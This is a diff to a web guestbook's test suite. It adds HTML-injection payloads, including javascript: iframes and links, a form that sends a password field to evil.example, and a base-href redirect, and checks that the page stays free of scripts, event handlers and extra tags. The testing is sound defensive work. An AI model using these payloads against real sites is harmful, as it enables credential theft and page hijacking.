@@ -155,6 +155,8 @@ def check():
         assert authors == ["Jürgen & Söhne", "a guest", "Ann Lee"]
         assert page.named("p")[1][1] == "5 < 7 & <b>more</b>"
         assert page.named("h1")[0][1] == "3 entries"
+        post_entry(port, "O'Neil <b> 5 > 3; on=x, script/ (Żółw)", "")
+        assert page_of(port).named("article")[0][0]["title"] == "O'Neil <b> 5 > 3; on=x, script/ (Żółw)"
 
 
 judged(check)
@@ -174,10 +176,23 @@ def check():
         '&quot; onmouseover=&quot;steal()',
         '\\" onmouseover=\\"steal()',
     )
+    attacks += (
+        '"><iframe src=javascript:steal()>',
+        '"><a href=javascript:steal()>more</a>',
+        '"><form action=//evil.example><input name=password>',
+        '" style="position:fixed;inset:0" x="',
+        '"><base href=//evil.example/><meta http-equiv=refresh content=0>',
+        '" id="admin',
+    )
     with serving(GuestBook) as port:
+        post_entry(port, "Ann Lee", "Lovely.")
+        shape = [(tag, list(attrs)) for tag, attrs, _ in page_of(port).found]
         for attack in [*attacks, *AUTHORS]:
+            ENTRIES.clear()
             post_entry(port, attack, "Lovely.")
             page = page_of(port)
+            added = [(tag, list(attrs)) for tag, attrs, _ in page.found]
+            assert not added or added == shape, f"{attack!r} made the page {added}"
             assert not page.named("script"), f"a script element came with {attack!r}"
             handlers = [name for _, attrs, _ in page.found for name in attrs if name.startswith("on")]
             assert not handlers, f"the handlers {handlers} came with {attack!r}"
